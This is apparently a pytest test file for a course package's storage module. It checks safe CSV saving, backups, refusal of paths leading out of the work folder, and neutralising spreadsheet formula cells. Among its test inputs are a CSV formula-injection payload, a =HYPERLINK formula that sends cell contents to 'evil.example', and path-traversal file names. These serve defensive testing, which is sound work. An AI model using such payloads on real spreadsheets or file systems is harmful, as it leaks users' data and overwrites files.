"""Safe saving: atomic writes, a backup before any replacement, plain messages instead of tracebacks."""
import os

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from medialit import storage


@pytest.fixture(autouse=True)
def work_dir(tmp_path, monkeypatch):
    monkeypatch.setenv(storage.WORK_DIR_ENV, str(tmp_path / "my_work"))
    return tmp_path / "my_work"


def test_relative_names_land_in_the_learner_folder(work_dir):
    saved = storage.atomic_write_text("notes.txt", "first")
    assert saved.path == work_dir / "notes.txt" and saved.path.read_text() == "first"
    assert saved.backup is None and saved.message == f"Saved your work to {storage.display_path(saved.path)}."


def test_replacing_keeps_the_previous_version_as_bak(work_dir):
    storage.atomic_write_text("notes.txt", "first")
    saved = storage.atomic_write_text("notes.txt", "second")
    assert (work_dir / "notes.txt").read_text() == "second"
    assert saved.backup == work_dir / "notes.txt.bak" and saved.backup.read_text() == "first"
    assert "previous version is kept as" in saved.message


def test_saving_the_same_content_changes_nothing(work_dir):
    storage.atomic_write_text("notes.txt", "first")
    storage.atomic_write_text("notes.txt", "second")
    saved = storage.atomic_write_text("notes.txt", "second")
    assert saved.unchanged and "nothing to save" in saved.message
    assert (work_dir / "notes.txt.bak").read_text() == "first"


def test_without_keep_backup_the_bak_is_left_alone(work_dir):
    storage.atomic_write_text("notes.txt", "first")
    storage.atomic_write_text("notes.txt", "second")
    storage.atomic_write_text("notes.txt", "third", keep_backup=False)
    assert (work_dir / "notes.txt").read_text() == "third"
    assert (work_dir / "notes.txt.bak").read_text() == "first"


def test_a_failed_write_leaves_the_old_file_and_no_temporary(work_dir, monkeypatch):
    storage.atomic_write_text("notes.txt", "first")

    def refuse(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(storage.StorageError, match="disk is not full"):
        storage.atomic_write_text("notes.txt", "second")
    monkeypatch.undo()
    assert (work_dir / "notes.txt").read_text() == "first"
    assert sorted(p.name for p in work_dir.iterdir()) == ["notes.txt"]


def test_a_folder_or_a_wrong_ending_is_refused_plainly(work_dir):
    (work_dir / "ledger.csv").mkdir(parents=True)
    with pytest.raises(storage.StorageError, match="is a folder"):
        storage.atomic_write_text("ledger.csv", "x")
    with pytest.raises(storage.StorageError, match="ending in .csv"):
        storage.save_csv(pd.DataFrame({"a": [1]}), "ledger.xlsx")


def test_csv_round_trip_keeps_text_exactly(work_dir):
    frame = pd.DataFrame({"text": ["a, \"quoted\" value", "ünïcode ‘x’", ""], "value": [1.5, None, 3.0]})
    saved = storage.save_csv(frame, "table.csv")
    assert saved.rows == 3 and saved.message.startswith("Saved 3 rows to ")
    back = storage.read_csv("table.csv", required=("text",))
    assert back["text"].tolist() == frame["text"].tolist()
    assert "\r" not in (work_dir / "table.csv").read_text(encoding="utf-8")


def test_reading_explains_missing_files_and_columns(work_dir):
    with pytest.raises(storage.StorageError, match="There is no file"):
        storage.read_csv("nothing.csv")
    storage.save_csv(pd.DataFrame({"a": [1]}), "table.csv")
    with pytest.raises(storage.StorageError, match="lacks the column"):
        storage.read_csv("table.csv", required=("status",))
    (work_dir / "broken.csv").write_bytes(b"\xff\xfe\x00garbage")
    with pytest.raises(storage.StorageError, match="not a readable CSV"):
        storage.read_csv("broken.csv")


def test_absolute_paths_are_accepted_only_inside_the_work_folder(work_dir, tmp_path):
    """Changed on purpose (issue 15): an absolute path used to be written as given, wherever it pointed."""
    inside = work_dir / "sub" / "out.csv"
    assert storage.save_csv(pd.DataFrame({"a": [1]}), inside).path == inside.resolve()
    elsewhere = tmp_path / "elsewhere" / "out.csv"
    with pytest.raises(storage.StorageError, match=r"Files you save go in your work folder, .*my_work/: give a plain name"):
        storage.save_csv(pd.DataFrame({"a": [1]}), elsewhere)
    assert not elsewhere.exists()


def test_reading_may_still_look_anywhere(work_dir, tmp_path):
    """A teacher reads a folder of submissions; reading never changes a file, so it is not confined."""
    storage.save_csv(pd.DataFrame({"a": ["=1+1"]}), "table.csv")
    outside = tmp_path / "copy.csv"
    outside.write_bytes((work_dir / "table.csv").read_bytes())
    assert storage.read_csv(outside)["a"].tolist() == ["=1+1"]


@pytest.mark.parametrize("name", ["../data/claims.csv", "../../x.csv", "~/x.csv", "sub/../../escape.csv", "/etc/medialit.csv",
                                  "../lessons/evil.ipynb.csv", "../solutions/x.csv", "."])
def test_names_leading_out_of_the_work_folder_are_refused(work_dir, name):
    with pytest.raises(storage.StorageError, match="Files you save go in your work folder"):
        storage.save_csv(pd.DataFrame({"a": [1]}), name) if name != "." else storage.atomic_write_text(name, "x")
    with pytest.raises(storage.StorageError, match="Files you save go in your work folder"):
        storage.atomic_write_text(name, "x")


def test_a_folder_named_like_the_course_folders_inside_my_work_is_the_learners_own(work_dir):
    assert storage.save_csv(pd.DataFrame({"a": [1]}), "lessons/evil.ipynb.csv").path == (work_dir / "lessons" / "evil.ipynb.csv").resolve()


def test_symlinks_out_of_the_work_folder_are_refused(work_dir, tmp_path):
    work_dir.mkdir(parents=True)
    victim = tmp_path / "victim.csv"
    victim.write_text("keep me")
    (work_dir / "link.csv").symlink_to(victim)
    (tmp_path / "outside").mkdir()
    (work_dir / "linked_folder").symlink_to(tmp_path / "outside", target_is_directory=True)
    for name in ("link.csv", "linked_folder/new.csv"):
        with pytest.raises(storage.StorageError, match="Files you save go in your work folder"):
            storage.save_csv(pd.DataFrame({"a": [1]}), name)
    assert victim.read_text() == "keep me" and not (tmp_path / "outside" / "new.csv").exists()
    (work_dir / "loop.csv").symlink_to(work_dir / "loop.csv")
    with pytest.raises(storage.StorageError):
        storage.atomic_write_text("loop.csv", "x")


def test_a_symlink_within_the_work_folder_saves_into_its_target(work_dir):
    storage.atomic_write_text("real.csv", "a\n1\n")
    (work_dir / "alias.csv").symlink_to(work_dir / "real.csv")
    assert storage.save_csv(pd.DataFrame({"a": [2]}), "alias.csv").path == (work_dir / "real.csv").resolve()
    assert storage.read_csv("real.csv")["a"].tolist() == ["2"]


@pytest.mark.parametrize("folder", ["data", "lessons", "solutions", "."])
def test_the_course_folders_are_never_written_even_as_the_work_folder(monkeypatch, folder):
    """Only ``resolve`` is called here: if the guard failed, nothing would have been written yet."""
    monkeypatch.setenv(storage.WORK_DIR_ENV, str(storage.course_dir() / folder))
    with pytest.raises(storage.StorageError, match="never written by its notebooks|Files you save go in"):
        storage.resolve("claims.csv" if folder != "." else "data/claims.csv")


def test_a_read_only_course_folder_sends_work_home(monkeypatch, tmp_path):
    monkeypatch.delenv(storage.WORK_DIR_ENV)
    monkeypatch.setattr(storage.os, "access", lambda path, mode: False)
    monkeypatch.setenv("HOME", str(tmp_path))
    assert storage.work_dir() == tmp_path / "medialit_work"


@pytest.mark.parametrize("name", [None, 42, "", "   ", ["a.csv"]])
def test_something_that_is_not_a_file_name_is_refused_plainly(name):
    with pytest.raises(storage.StorageError, match="Give a file name, such as 'my_ledger.csv'"):
        storage.save_csv(pd.DataFrame({"a": [1]}), name)
    with pytest.raises(storage.StorageError, match="Give a file name"):
        storage.read_csv(name)


def test_saved_files_are_as_readable_as_any_other(work_dir):
    previous = os.umask(0o022)
    try:
        saved = storage.atomic_write_text("notes.txt", "first")
        assert saved.path.stat().st_mode & 0o777 == 0o644  # not mkstemp's private 0o600
        saved.path.chmod(0o640)
        storage.atomic_write_text("notes.txt", "second")
        assert saved.path.stat().st_mode & 0o777 == 0o640  # a replaced file keeps its permissions
    finally:
        os.umask(previous)


@pytest.mark.parametrize("name, says", [
    ("a\0b.csv", "cannot hold a NUL character"),
    ("y" * 300 + ".csv", "A file name of 304 characters is too long"),
    ("folder/" + "é" * 150 + ".csv", "too long"),  # 300 bytes in UTF-8
    ("~nosuchlearner/mine.csv", "There is no home folder"),
])
def test_names_no_disk_accepts_are_refused_plainly(work_dir, name, says):
    with pytest.raises(storage.StorageError, match=says):
        storage.save_csv(pd.DataFrame({"a": [1]}), name)
    with pytest.raises(storage.StorageError, match=says):
        storage.read_csv(name)
    with pytest.raises(storage.StorageError, match=says):
        storage.atomic_write_text(name, "x")


def test_the_longest_accepted_name_still_saves_with_its_backup(work_dir):
    name = "y" * (storage.MAX_NAME_BYTES - 4) + ".csv"
    storage.save_csv(pd.DataFrame({"a": [1]}), name)
    saved = storage.save_csv(pd.DataFrame({"a": [2]}), name)
    assert saved.backup.is_file() and storage.read_csv(name)["a"].tolist() == ["2"]


def test_any_system_error_while_reading_becomes_a_sentence(work_dir, monkeypatch):
    storage.save_csv(pd.DataFrame({"a": [1]}), "table.csv")

    def fail(*_, **__):
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(storage.pd, "read_csv", fail)
    with pytest.raises(storage.StorageError, match=r"Could not read .*table.csv \(Input/output error\)"):
        storage.read_csv("table.csv")


def test_paths_show_relative_to_the_course_folder_only_inside_it(work_dir, tmp_path):
    course = storage.course_dir()
    assert storage.display_path(course / "my_work" / "answers.csv") == "my_work/answers.csv"
    assert storage.display_path(work_dir / "answers.csv") == str(work_dir.resolve() / "answers.csv")
    assert storage.atomic_write_text("answers.csv", "x").message == f"Saved your work to {work_dir.resolve() / 'answers.csv'}."
    assert storage.display_path("a\0b") == "a\0b"  # never raises, even for a name no disk accepts


def test_a_read_only_file_is_never_replaced(work_dir):
    storage.save_csv(pd.DataFrame({"a": [1]}), "mine.csv")
    (work_dir / "mine.csv").chmod(0o444)
    before = (work_dir / "mine.csv").read_bytes()
    with pytest.raises(storage.StorageError, match=r"mine.csv is read-only, so it is left as it is; save under another name"):
        storage.save_csv(pd.DataFrame({"a": [2]}), "mine.csv")
    assert (work_dir / "mine.csv").read_bytes() == before and not (work_dir / "mine.csv.bak").exists()
    assert storage.save_csv(pd.DataFrame({"a": [2]}), "other.csv").rows == 1


def test_temporaries_left_by_killed_saves_are_cleaned_on_the_next_save(work_dir):
    storage.atomic_write_text("notes.txt", "first")
    old = [work_dir / f".notes.txt.{n:08x}.tmp" for n in range(13)] + [work_dir / ".notes.txt.bak.0badcafe.tmp"]
    young = work_dir / ".notes.txt.12345678.tmp"  # may be another kernel's save under way
    others = [work_dir / ".other.csv.0badcafe.tmp", work_dir / ".notes.txt.not-hex!.tmp", work_dir / "notes.txt.0badcafe.tmp"]
    for path in (*old, young, *others):
        path.write_text("half")
    stale = os.path.getmtime(work_dir / "notes.txt") - storage.STALE_TEMPORARY_SECONDS - 1
    for path in (*old, *others):
        os.utime(path, (stale, stale))
    saved = storage.atomic_write_text("notes.txt", "second")
    left = {p.name for p in work_dir.iterdir()}
    assert left == {"notes.txt", "notes.txt.bak", young.name, *(p.name for p in others)}
    assert saved.backup.read_text() == "first"


CELLS = ["=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"x\")", "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "'=1+1", "''@x",
         "'", "'plain", "plain", "", "5 km", "a=b", " =1", "a\rb", "a\r\nb"]


@pytest.mark.parametrize("cell", CELLS)
def test_formula_cells_are_neutralised_and_read_back_exactly(work_dir, cell):
    written = storage.neutralise_cell(cell)
    assert storage.restore_cell(written) == cell
    assert written[:1] not in storage.FORMULA_STARTS
    assert written == ("'" + cell if cell.lstrip("'")[:1] in storage.FORMULA_STARTS and cell.lstrip("'") else cell)
    frame = pd.DataFrame({"text": [cell], cell or "empty": ["x"], "number": [-5]})
    storage.save_csv(frame, "cells.csv")
    back = storage.read_csv("cells.csv")
    assert back.columns.tolist() == ["text", cell or "empty", "number"]
    assert back["text"].tolist() == [cell] and back["number"].tolist() == ["-5"]  # a number is not a formula


def test_the_contracts_examples():
    """CONTRACTS.md C: a leading ', and read back without it."""
    for start in "=+-@\t\r":
        assert storage.neutralise_cell(start + "x") == "'" + start + "x"
        assert storage.restore_cell("'" + start + "x") == start + "x"
    assert storage.restore_cell("'x") == "'x" and storage.neutralise_cell("x=1") == "x=1"


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_every_cell_survives_the_round_trip(cell):
    assert storage.restore_cell(storage.neutralise_cell(cell)) == cell
    assert storage.neutralise_cell(cell)[:1] not in storage.FORMULA_STARTS


def test_what_autosave_compares_is_what_save_writes(work_dir):
    frame = pd.DataFrame({"text": ["=1", "x"], "value": [1.5, None]})
    saved = storage.save_csv(frame, "t.csv")
    assert saved.path.read_text(encoding="utf-8") == storage.csv_text(frame) == "text,value\n'=1,1.5\nx,\n"


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=("Cs",))), min_size=1, max_size=5))
def test_any_text_table_reads_back_as_saved(tmp_path_factory, cells):
    folder = tmp_path_factory.mktemp("round_trip")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(storage.WORK_DIR_ENV, str(folder))
        storage.save_csv(pd.DataFrame({"text": cells}), "t.csv")
        assert storage.read_csv("t.csv")["text"].tolist() == cells


def test_a_one_column_table_of_spaces_reads_back_as_saved(work_dir):
    """Found by the round-trip property: an unquoted cell of spaces is a blank line, which pandas skips."""
    for cells in ([" "], ["a", "  "], [" ", " "]):
        storage.save_csv(pd.DataFrame({"text": cells}), "t.csv")
        assert storage.read_csv("t.csv")["text"].tolist() == cells


def test_a_lone_surrogate_is_saved_as_its_escape_not_a_traceback(work_dir):
    """A hostile answer ("5 \\ud800") once made every later export of the session fail with UnicodeEncodeError."""
    storage.save_csv(pd.DataFrame({"answer": ["5 \ud800", "ok"]}), "answers.csv")
    assert storage.read_csv("answers.csv")["answer"].tolist() == ["5 \\ud800", "ok"]


def test_a_teacher_tool_replaces_its_named_file_and_keeps_the_previous_one(tmp_path):
    target = tmp_path / "out" / "grades.csv"
    target.parent.mkdir()
    assert storage.replace_named_file(target, "first") is False
    assert storage.replace_named_file(target, "second") is True
    assert target.read_text() == "second" and (tmp_path / "out" / "grades.csv.bak").read_text() == "first"
    assert sorted(p.name for p in target.parent.iterdir()) == ["grades.csv", "grades.csv.bak"]


def test_a_relative_or_home_work_folder_is_one_absolute_folder(tmp_path, monkeypatch):
    """A relative MEDIALIT_WORK_DIR once made saves land in rel/rel/ while reads looked in rel/."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv(storage.WORK_DIR_ENV, "rel")
    storage.atomic_write_text("notes.txt", "kept")
    assert storage.work_dir() == tmp_path / "rel" and (tmp_path / "rel" / "notes.txt").read_text() == "kept"
    assert storage.locate("notes.txt") == tmp_path / "rel" / "notes.txt"
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv(storage.WORK_DIR_ENV, "~/work")
    assert storage.work_dir() == tmp_path / "home" / "work"
    monkeypatch.setenv(storage.WORK_DIR_ENV, "  ")
    assert storage.work_dir().name in ("my_work", "medialit_work")


def test_a_row_wider_than_its_header_is_refused_in_one_sentence_before_pandas_reads_it(work_dir):
    work_dir.mkdir(parents=True, exist_ok=True)
    (work_dir / "wide.csv").write_text("a,b\n1,2\n" + ",".join(["1"] * 200_000) + "\n", encoding="utf-8")
    with pytest.raises(storage.StorageError, match="row 3 has 200,000 cells but the header has 2"):
        storage.read_csv("wide.csv")
